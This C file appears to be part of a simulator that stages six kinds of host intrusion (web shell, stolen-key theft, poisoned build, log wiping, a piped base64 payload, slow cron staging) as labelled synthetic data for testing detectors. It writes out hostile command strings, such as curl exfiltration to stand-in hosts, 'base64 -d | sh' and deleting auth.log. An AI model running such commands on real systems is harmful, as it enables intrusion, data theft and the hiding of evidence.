/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include "daemons.h"
#include "programs.h"
#include "truth.h"

/*
 * Six kinds of attack. What is inside STEP() or DETECT() is what the truth says; forks and execs
 * of an intruder's processes always are. All else that his programs do is what such programs do.
 */
static struct lm_address attacker(const struct attack *attack, uint16_t port)
{
	return address_of(0xc6336400 + truth_number(attack) % 250 + 1, port);
}

/* Make a file, or write into one that is there. */
static void put_file(struct proc *p, struct node *node, uint32_t flags, int64_t bytes)
{
	STEP(p, sys_open(p, node, O_WRONLY | O_CREAT | flags));
	STEP(p, sys_write(p, node, bytes));
	sys_close(p, node);
	truth_file(p->attack, node, ROLE_ATTACK);
}

/* What is noticed afterwards. */
static void change_file(struct proc *p, struct node *node)
{
	STEP(p, sys_open(p, node, O_WRONLY | O_CREAT | O_APPEND));
	DETECT(p, sys_write(p, node, 70));
	sys_close(p, node);
	truth_file(p->attack, node, ROLE_ATTACK);
}

static void take_file(struct proc *p, struct node *node, enum role role)
{
	STEP(p, read_file(p, node, 3000));
	truth_file(p->attack, node, role);
}

static void make_program(struct proc *p, struct node *node)
{
	STEP(p, sys_chmod(p, node, 0755));
}

/* curl: from the intruder's own server into a file. */
static void download_main(struct proc *p, const struct task *task)
{
	const struct lm_address server = attacker(p->attack, 443);
	struct channel socket;

	program_start(p, TOOL_CURL, "curl|-s|-o|/tmp/x|https://198.51.100.7/u");
	look_up_host(p);
	sys_connect(p, &socket, &server, NULL, 0);
	truth_socket(p->attack, &socket, ROLE_ATTACK);
	sys_send(p, &socket, 517);
	for (uint32_t i = 0; i < 4; i++)
		STEP(p, sys_recv(p, &socket, 16384));
	put_file(p, task->node, O_TRUNC, 48000);
	sys_close_object(p, socket.object.id);
	sys_exit(p, 0);
}

static void download(struct proc *p, struct node *node)
{
	const struct task task = { .node = node };

	search_path(p, TOOL_CURL);
	sys_fork(p, true, download_main, &task);
	sys_wait(p);
}

static void chmod_main(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_CHMOD, "chmod|+x|/tmp/x");
	make_program(p, task->node);
	sys_exit(p, 0);
}

/* Send away: what was read before, and that somebody is there. */
static void send_out(struct proc *p, uint16_t port)
{
	const struct lm_address server = attacker(p->attack, port);
	struct channel socket;

	STEP(p, sys_connect(p, &socket, &server, NULL, 0));
	truth_socket(p->attack, &socket, ROLE_ATTACK);
	for (uint32_t i = 0; i < 3; i++)
		STEP(p, sys_send(p, &socket, 16384));
	DETECT(p, sys_send(p, &socket, 900));
	sys_close_object(p, socket.object.id);
}

static struct node *hidden_file(struct world *w, const struct attack *attack, const char *format)
{
	char path[160];

	snprintf(path, sizeof(path), format, truth_number(attack));
	return host_node(w, path, 0);
}

/* 1. Through the web server: a tool that makes itself root and stays. */
static void stay_main(struct proc *p, const struct task *task)
{
	const struct places *at = places_of(p->world);

	host_sleep(p, task->number);
	for (uint32_t i = 0; i < 5; i++)
		take_file(p, at->home[i].files[7 * i], ROLE_VICTIM);
	send_out(p, 8443);
	sys_exit(p, 0);
}

static void tool_of_intruder(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	const struct places *at = places_of(w);
	struct task stay = { .number = task->number };

	program_start_at(p, task->node, "[kworker/1:3]");
	sys_setuid(p, 0);
	take_file(p, at->shadow, ROLE_VICTIM);
	change_file(p, at->passwd);
	change_file(p, host_node(w, "/root/.ssh/authorized_keys", FILE_MODE));
	put_file(p, task->other, O_TRUNC, 64);
	sys_fork(p, false, stay_main, &stay);
	sys_exit(p, 0);
}

static void web_script(struct proc *p, const struct task *task)
{
	struct task child = { .node = task->other };

	program_start_script(p, task->node, "/usr/lib/cgi-bin/lookup.cgi");
	download(p, task->other);
	sys_fork(p, true, chmod_main, &child);
	sys_wait(p);
	child.other = task->terminal;
	child.number = task->number;
	sys_fork(p, true, tool_of_intruder, &child);
	sys_wait(p);
	sys_exit(p, 0);
}

/* His own cron job: calls home. */
static void beacon_work(struct proc *p, const struct task *task)
{
	(void)task;
	send_out(p, 53);
	sys_exit(p, 0);
}

static void attack_web(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	struct attack *attack = task->attack;
	struct node *table = hidden_file(w, attack, "/etc/cron.d/.sysstat%u");
	const struct visit visit = { .from = attacker(attack, 41234),
		.requests = 3,
		.attack = attack,
		.cgi = web_script,
		.task = { .other = hidden_file(w, attack, "/tmp/.ICE-%u"),
			.terminal = table,
			.number = task->number / 2 } };
	const struct job job = {
		.command = "/tmp/.x || true", .table = table, .attack = attack, .run = beacon_work
	};

	web_visit(w, &visit, p->now_ns);
	host_sleep(p, task->number);
	daemon_job(w, &job, p->now_ns);
}

/* 2. With a stolen key: gathers what others have, and takes it away. */
static void gather_main(struct proc *p, const struct task *task)
{
	const struct places *at = places_of(p->world);

	program_start(p, TOOL_TAR, "tar|czf|/tmp/.s|/home");
	for (uint32_t i = 0; i < 9; i++)
		take_file(p, at->home[i].files[3 + i], ROLE_VICTIM);
	put_file(p, task->node, O_TRUNC, 90000);
	sys_exit(p, 0);
}

static void upload_main(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_CURL, "curl|-sT|/tmp/.s|https://198.51.100.9/");
	take_file(p, task->node, ROLE_ATTACK);
	look_up_host(p);
	send_out(p, 443);
	sys_exit(p, 0);
}

static void thief_shell(struct proc *p, const struct task *task)
{
	STEP(p, session_type(p));
	sys_fork(p, true, gather_main, task);
	sys_wait(p);
	host_sleep(p, 30 * HOST_SECOND_NS);
	session_type(p);
	sys_fork(p, true, upload_main, task);
	sys_wait(p);
	sys_unlink(p, task->node);
}

static void attack_login(struct proc *p, const struct task *task)
{
	struct attack *attack = task->attack;
	const struct login login = { .from = attacker(attack, 50022),
		.user = 3,
		.attack = attack,
		.run = thief_shell,
		.task = { .node = hidden_file(p->world, attack, "/tmp/.cache-%u.tgz") } };

	daemon_login(p->world, &login, p->now_ns);
}

/* 3. Through what is built: a poisoned source, a build, and the developer's next login. */
static void pull_main(struct proc *p, const struct task *task)
{
	const struct lm_address server = attacker(p->attack, 9418);
	struct channel socket;

	program_start(p, TOOL_GIT, "git|pull");
	look_up_host(p);
	sys_connect(p, &socket, &server, NULL, 0);
	truth_socket(p->attack, &socket, ROLE_ATTACK);
	truth_entry(p->attack, socket.object.id);
	for (uint32_t i = 0; i < 6; i++)
		STEP(p, sys_recv(p, &socket, 8192));
	put_file(p, task->node, O_TRUNC, 2200);
	sys_close_object(p, socket.object.id);
	sys_exit(p, 0);
}

static void poisoned_script(struct proc *p, const struct task *task)
{
	struct node *home = places_of(p->world)->homes[task->number];

	program_start_script(p, task->node, "./configure");
	take_file(p, task->node, ROLE_ATTACK);
	put_file(p, task->other, O_TRUNC, 30000);
	make_program(p, task->other);
	change_file(p, host_child(p->world, home, ".bashrc", FILE_MODE));
	sys_exit(p, 0);
}

static void make_poisoned(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_MAKE, "make");
	sys_fork(p, true, poisoned_script, task);
	sys_wait(p);
	sys_exit(p, 0);
}

static void developer_shell(struct proc *p, const struct task *task)
{
	session_type(p);
	p->attack = task->attack;
	sys_fork(p, true, pull_main, task);
	p->attack = NULL;
	sys_wait(p);
	host_sleep(p, 60 * HOST_SECOND_NS);
	session_type(p);
	p->attack = task->attack;
	sys_fork(p, true, make_poisoned, task);
	p->attack = NULL;
	sys_wait(p);
}

static void helper_main(struct proc *p, const struct task *task)
{
	program_start_at(p, task->other, "/usr/libexec/gitd");
	send_out(p, 8080);
	sys_exit(p, 0);
}

static void unaware_shell(struct proc *p, const struct task *task)
{
	/* What .bashrc says, which the shell has read. */
	p->attack = task->attack;
	sys_fork(p, false, helper_main, task);
	p->attack = NULL;
	sys_wait(p);
	session_type(p);
}

static void attack_build(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	uint32_t user = 5 + truth_number(task->attack) % 4;
	struct login login = { .from = address_of(0x5e100000 + user * 257, 40400),
		.user = user,
		.carries = task->attack,
		.run = developer_shell };

	login.task = (struct task){ .attack = task->attack,
		.number = user,
		.node = host_child(w, places_of(w)->homes[user], "configure", 0),
		.other = host_child(w, places_of(w)->homes[user], ".gitd", 0) };
	daemon_login(w, &login, p->now_ns);
	host_sleep(p, task->number);
	login.run = unaware_shell;
	daemon_login(w, &login, p->now_ns);
}

/* 4. Wipes what would tell of him. */
static void remove_main(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_RM, "rm|-f|/var/log/auth.log");
	truth_file(p->attack, task->node, ROLE_ATTACK);
	DETECT(p, sys_unlink(p, task->node));
	sys_exit(p, 0);
}

static void wiper_shell(struct proc *p, const struct task *task)
{
	const struct places *at = places_of(p->world);

	STEP(p, session_type(p));
	sys_fork(p, true, remove_main, task);
	sys_wait(p);
	session_type(p);
	DETECT(p, sys_open(p, at->wtmp, O_WRONLY | O_TRUNC));
	truth_file(p->attack, at->wtmp, ROLE_ATTACK);
	sys_close(p, at->wtmp);
}

static void attack_wipe(struct proc *p, const struct task *task)
{
	const struct login login = { .from = attacker(task->attack, 50122),
		.user = USERS,
		.attack = task->attack,
		.run = wiper_shell,
		.task = { .node = places_of(p->world)->auth_log } };

	daemon_login(p->world, &login, p->now_ns);
}

/* 5. An upload, which a job of the site's own hands through two pipes to a shell. */
static void upload_script(struct proc *p, const struct task *task)
{
	program_start_script(p, task->node, "/usr/lib/cgi-bin/upload.cgi");
	put_file(p, task->other, O_EXCL, 1800);
	sys_exit(p, 0);
}

static void cat_main(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_CAT, "cat|/var/tmp/up");
	take_file(p, task->node, ROLE_ATTACK);
	STEP(p, sys_pipe_write(p, &task->second, 1800));
	sys_exit(p, 0);
}

static void decode_main(struct proc *p, const struct task *task)
{
	program_start(p, TOOL_BASE64, "base64|-d");
	STEP(p, sys_pipe_read(p, &task->channel, 1800));
	STEP(p, sys_pipe_write(p, &task->second, 1350));
	sys_exit(p, 0);
}

static void deface_main(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	struct node *page = places_of(w)->sites.files[0];
	struct node *fresh = hidden_file(w, p->attack, "/var/tmp/.p%u");

	program_start(p, TOOL_SH, "sh");
	STEP(p, sys_pipe_read(p, &task->channel, 1350));
	STEP(p, sys_open(p, fresh, O_WRONLY | O_CREAT));
	DETECT(p, sys_write(p, fresh, 600));
	sys_close(p, fresh);
	truth_file(p->attack, fresh, ROLE_ATTACK);
	DETECT(p, sys_rename(p, fresh, page));
	truth_file(p->attack, page, ROLE_ATTACK);
	sys_exit(p, 0);
}

static void pipe_work(struct proc *p, const struct task *task)
{
	struct task first = { .node = task->other }, second, third = { .node = NULL };

	sys_pipe(p, &first.second);
	second = (struct task){ .channel = first.second };
	sys_pipe(p, &second.second);
	third.channel = second.second;
	/* Each behind the one that writes: a read of an empty pipe ends when something comes. */
	sys_fork(p, false, cat_main, &first);
	host_sleep(p, HOST_SECOND_NS / 10);
	sys_fork(p, false, decode_main, &second);
	host_sleep(p, HOST_SECOND_NS / 10);
	sys_fork(p, false, deface_main, &third);
	sys_wait(p);
	sys_exit(p, 0);
}

static void attack_pipe(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	struct node *upload = hidden_file(w, task->attack, "/var/tmp/up-%u");
	const struct visit visit = { .from = attacker(task->attack, 47000),
		.requests = 2,
		.attack = task->attack,
		.cgi = upload_script,
		.task = { .other = upload } };
	const struct job job = { .uid = 33,
		.command = "cat up | base64 -d | sh",
		.run = pipe_work,
		.attack = task->attack,
		.task = { .other = upload } };

	web_visit(w, &visit, p->now_ns);
	host_sleep(p, task->number / 4);
	daemon_job(w, &job, p->now_ns);
}

/* 6. Slow: a login, and three jobs on later days, each with what the one before has left. */
static void first_shell(struct proc *p, const struct task *task)
{
	STEP(p, session_type(p));
	put_file(p, task->node, O_TRUNC, 300);
	put_file(p, task->other, O_TRUNC, 50);
}

static void fetch_stage(struct proc *p, const struct task *task)
{
	take_file(p, task->node, ROLE_ATTACK);
	download(p, task->other);
	make_program(p, task->other);
	sys_exit(p, 0);
}

static void stage_main(struct proc *p, const struct task *task)
{
	program_start_at(p, task->node, ".upd");
	put_file(p, task->other, O_APPEND, 120);
	sys_exit(p, 0);
}

static void run_stage(struct proc *p, const struct task *task)
{
	sys_fork(p, true, stage_main, task);
	sys_wait(p);
	sys_exit(p, 0);
}

static void altered_backup(struct proc *p, const struct task *task)
{
	take_file(p, task->node, ROLE_ATTACK);
	change_file(p, places_of(p->world)->shadow);
	send_out(p, 993);
	sys_exit(p, 0);
}

static void attack_slow(struct proc *p, const struct task *task)
{
	struct world *w = p->world;
	struct attack *attack = task->attack;
	struct node *begun = hidden_file(w, attack, "/home/carol/.sync%u.sh");
	struct node *table = hidden_file(w, attack, "/var/spool/cron/crontabs/carol%u");
	struct node *stage = hidden_file(w, attack, "/home/carol/.upd%u");
	struct node *backup = hidden_file(w, attack, "/usr/local/sbin/rotate%u");
	const struct login login = { .from = attacker(attack, 50222),
		.user = 2,
		.attack = attack,
		.run = first_shell,
		.task = { .node = begun, .other = table } };
	struct job job = { .uid = USER_UID + 2,
		.command = "$HOME/.sync.sh",
		.table = table,
		.attack = attack,
		.run = fetch_stage,
		.task = { .node = begun, .other = stage } };

	backup->mode = PROGRAM_MODE;
	daemon_login(w, &login, p->now_ns);
	host_sleep(p, task->number);
	daemon_job(w, &job, p->now_ns);
	host_sleep(p, task->number);
	job.run = run_stage;
	job.task = (struct task){ .node = stage, .other = backup };
	daemon_job(w, &job, p->now_ns);
	host_sleep(p, task->number);
	job = (struct job){ .command = "/usr/local/sbin/rotate",
		.attack = attack,
		.run = altered_backup,
		.task = { .node = backup } };
	daemon_job(w, &job, p->now_ns);
}

void attacks_start(struct world *w, uint32_t each)
{
	static const struct {
		const char *name;
		script run;
	} kinds[ATTACK_KINDS] = {
		{ "web", attack_web },
		{ "login", attack_login },
		{ "build", attack_build },
		{ "wipe", attack_wipe },
		{ "pipe", attack_pipe },
		{ "slow", attack_slow },
	};
	uint64_t span_ns = w->end_ns - w->start_ns;

	/* The slow ones want most of the time; all have ended at nine tenths. */
	for (uint32_t i = 0; i < each * ATTACK_KINDS; i++) {
		uint32_t kind = i % ATTACK_KINDS, number = i / ATTACK_KINDS;
		uint64_t last_ns = span_ns / 100 * (kind == 5 ? 20 : 80);
		uint64_t wait_ns = kind == 5 ? span_ns / 5 : span_ns / 25;
		struct task task = { .number = wait_ns,
			.attack = truth_attack(w->truth, kinds[kind].name, i + 1) };

		host_coroutine(w,
			w->start_ns + span_ns / 20 + last_ns / each * number +
				host_random(w) % (last_ns / each),
			kinds[kind].run, &task);
	}
}
